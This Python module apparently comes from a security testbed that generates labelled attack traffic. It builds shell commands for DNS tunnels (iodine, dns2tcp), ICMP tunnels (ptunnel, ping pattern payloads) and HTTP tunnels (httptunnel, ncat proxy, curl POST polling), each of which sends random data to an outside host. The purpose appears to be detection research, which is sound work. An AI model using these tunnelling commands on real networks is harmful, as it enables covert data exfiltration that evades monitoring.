"""Protocols inside DNS, ICMP and HTTP."""

from testbed.attacks.material import INSIDE, blob, listening, maybe, pause, program, serving, text, words, zone
from testbed.catalogue import Assault, Evidence, attack

DNS = "T1071.004"
ENCAPSULATED = "T1572"


def errands(c, url: str, most: int, rounds: int = 4) -> str:
    """What goes through a tunnel that ends at a web server of the attacker's: answers to him and data for him."""
    fetch = f"curl -s -m 12 -o /dev/null {url}/{c.choose('api', 'x', 'tasks', 'get')}"
    give = f"{blob(c.between(most // 8, most))} | curl -s -m 20 -T - -o /dev/null {url}/up"
    parts = [fetch] * c.between(1, rounds) + [give] * c.choose(0, 1, 1, 2)
    c.random.shuffle(parts)
    return "; ".join(f"{part}; {pause(c.between(0.2, 3.0))}" for part in parts)


def web_server(c, port: int) -> str:
    """A web server of the attacker's that the other end of a tunnel leads to."""
    return program("sink.py", "http", "--port", port, "--seed", c.between(1, 10**6))


def through_names(name: str) -> tuple[Evidence, ...]:
    """Resolvers ask on behalf of whoever uses the tunnel; the zone tells for whom."""
    return (Evidence("udp", query_suffixes=(name,)),)


@attack(
    "tunnel_dns",
    technique=DNS,
    tool="iodine",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("iodine", "curl"),
    seconds=75,
)
def iodine(c):
    (name, names_port), net, port = zone(c), f"10.{c.between(90, 250)}.{c.between(0, 250)}", c.between(5000, 9000)
    secret = f"p{c.between(1000, 10**9)}"
    server = (
        f"bash -c '{web_server(c, port)} & exec iodined -f -c -l 127.0.0.1 -p {names_port} -P {secret} {net}.1 {name}'"
    )
    client = words(
        "iodine -f -r",
        f"-P {secret} -T {c.choose('NULL', 'TXT', 'CNAME', 'MX', 'SRV', 'PRIVATE')}",
        f"-M {c.between(110, 230)} -L{c.choose(0, 1)} -I {c.between(1, 6)}",
        maybe(c, 0.4, f"-m {c.between(150, 900)}"),
        maybe(c, 0.3, f"-O {c.choose('base32', 'base64')}"),
        c.server("dns").address,
        name,
    )
    use = errands(c, f"http://{net}.1:{port}", 26_000, 3)
    return Assault(
        f"{client} & tunnel=$!; for wait in $(seq 30); do ping -q -c1 -W1 {net}.1 >/dev/null && break; done;"
        f" ping -q -c {c.between(2, 9)} -i {c.between(0.3, 1.0)} {net}.1; {use}; kill $tunnel; sleep 1",
        evidence=through_names(name),
        **serving(name, names_port, server, c),
    )


@attack(
    "tunnel_dns",
    technique=DNS,
    tool="dns2tcp",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("dns2tcp", "curl"),
    seconds=70,
)
def dns2tcp(c):
    (name, names_port), port, local = zone(c), c.between(5000, 9000), c.between(10000, 20000)
    config = c.write(
        "dns2tcpd.conf",
        f"listen = 127.0.0.1\nport = {names_port}\nuser = nobody\nchroot = /tmp\ndomain = {name}\n"
        f"pid_file = {c.folder}/dns2tcpd.pid\nresources = web:127.0.0.1:{port}\n",
    )
    server = f"bash -c '{web_server(c, port)} & exec dns2tcpd -F -d 0 -f {config}'"
    client = words(
        "dns2tcpc -c -r web -z",
        name,
        f"-l {local} -d 0",
        maybe(c, 0.5, f"-T {c.choose('TXT', 'KEY')}"),
        c.server("dns").address,
    )
    use = errands(c, f"http://127.0.0.1:{local}", 10_000, 3)
    return Assault(
        f"{client} & tunnel=$!; sleep 2; {use}; kill $tunnel; sleep 1",
        evidence=through_names(name),
        **serving(name, names_port, server, c),
    )


@attack("tunnel_icmp", technique="T1095", tool="ptunnel", origins=INSIDE, packages=("ptunnel", "curl"), seconds=45)
def ptunnel(c):
    local, port, outside = c.between(2200, 2999), c.between(5000, 9000), c.network.outside
    secret = maybe(c, 0.4, f"-x key{c.between(1, 10**6)}")
    use = errands(c, f"http://127.0.0.1:{local}", 110_000, 5)
    return Assault(
        f"{words('ptunnel -p', outside.address, f'-lp {local} -da 127.0.0.1 -dp {port}', secret)} & tunnel=$!; sleep 2;"
        f" {use}; kill $tunnel; sleep 1",
        **listening(f"{web_server(c, port)} & exec ptunnel {secret}", outside),
    )


@attack(
    "tunnel_icmp", technique="T1095", tool="ptunnel-ng", origins=INSIDE, packages=("ptunnel-ng", "curl"), seconds=45
)
def ptunnel_ng(c):
    local, port, outside = c.between(2200, 2999), c.between(5000, 9000), c.network.outside
    magic = maybe(c, 0.5, f"-m{c.between(1, 2**30):x}")
    use = errands(c, f"http://127.0.0.1:{local}", 110_000, 5)
    return Assault(
        f"{words(f'ptunnel-ng -p{outside.address} -l{local} -r127.0.0.1 -R{port}', magic)} & tunnel=$!; sleep 2;"
        f" {use}; kill $tunnel; sleep 1",
        **listening(f"{web_server(c, port)} & exec {words('ptunnel-ng', magic)}", outside),
    )


@attack("tunnel_icmp", technique="T1095", tool="ping payload", origins=INSIDE, packages=("iputils-ping",), seconds=50)
def ping_payload(c):
    return Assault(
        f"{blob(c.between(1500, 6000))} | od -An -v -tx1 -w{c.choose(8, 12, 16)} | tr -d ' ' | while read pattern;"
        f" do ping -q -n -c1 -W1 -s {c.choose(56, 120, c.between(100, 1200))} -p $pattern {c.network.outside.address};"
        f" {pause(c.between(0.0, 0.3))}; done"
    )


@attack(
    "http_tunnel",
    technique=ENCAPSULATED,
    tool="httptunnel",
    origins=INSIDE,
    packages=("httptunnel", "ncat"),
    seconds=45,
)
def httptunnel(c):
    local, port, inner, outside = (
        c.between(2300, 2999),
        c.choose(81, 8890, c.between(10000, 30000)),
        c.between(30001, 40000),
        c.network.outside,
    )
    lines = "; ".join(
        f"echo job {c.between(1, 999)} $({text(c.between(20, 900))}); {pause(c.between(0.3, 2.5))}"
        for _ in range(c.between(4, 14))
    )
    return Assault(
        f"htc -F {local} {outside.address}:{port} & tunnel=$!; sleep 1; ({lines}) | timeout 35 nc.openbsd -q2 127.0.0.1"
        f" {local} >/dev/null; kill $tunnel; sleep 1",
        **listening(f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec hts -S -F 127.0.0.1:{inner} {port}", outside),
    )


@attack("http_tunnel", technique=ENCAPSULATED, tool="ncat proxy", origins=INSIDE, packages=("ncat",), seconds=40)
def connect_proxy(c):
    port, inner, outside = c.choose(3128, 8118, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
    secret = maybe(c, 0.5, f"--proxy-auth u{c.between(1, 99)}:p{c.between(1, 10**6)}")
    lines = "; ".join(
        f"{c.choose('echo', 'printf %s')} $({text(c.between(20, 3000))}); {pause(c.between(0.1, 2.0))}"
        for _ in range(c.between(4, 16))
    )
    return Assault(
        f"({lines}) | timeout 32 ncat {words('--proxy', f'{outside.address}:{port}', '--proxy-type http', secret)}"
        f" 127.0.0.1 {inner} >/dev/null",
        **listening(
            f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec ncat -l -k -p {port} --proxy-type http {secret}", outside
        ),
    )


@attack("http_tunnel", technique=ENCAPSULATED, tool="curl chunks", origins=INSIDE, packages=("curl",), seconds=45)
def polled_tunnel(c):
    outside, port = c.network.outside, c.choose(80, 8080, 8008, c.between(10000, 30000))
    page = c.choose("index.php", "api/v1/t", "news", "cgi-bin/t")
    url = f"http://{outside.address}:{port}/{page}?s={c.between(1, 10**9):x}"
    body = f"{blob(c.between(40, 1400))} | curl -s -m 8 -X POST --data-binary @- -o /dev/null '{url}'"
    return Assault(
        f"for round in $(seq {c.between(15, 70)}); do {body}; {pause(c.between(0.05, 0.6))}; done",
        **listening(f"exec {web_server(c, port)}", outside),
    )
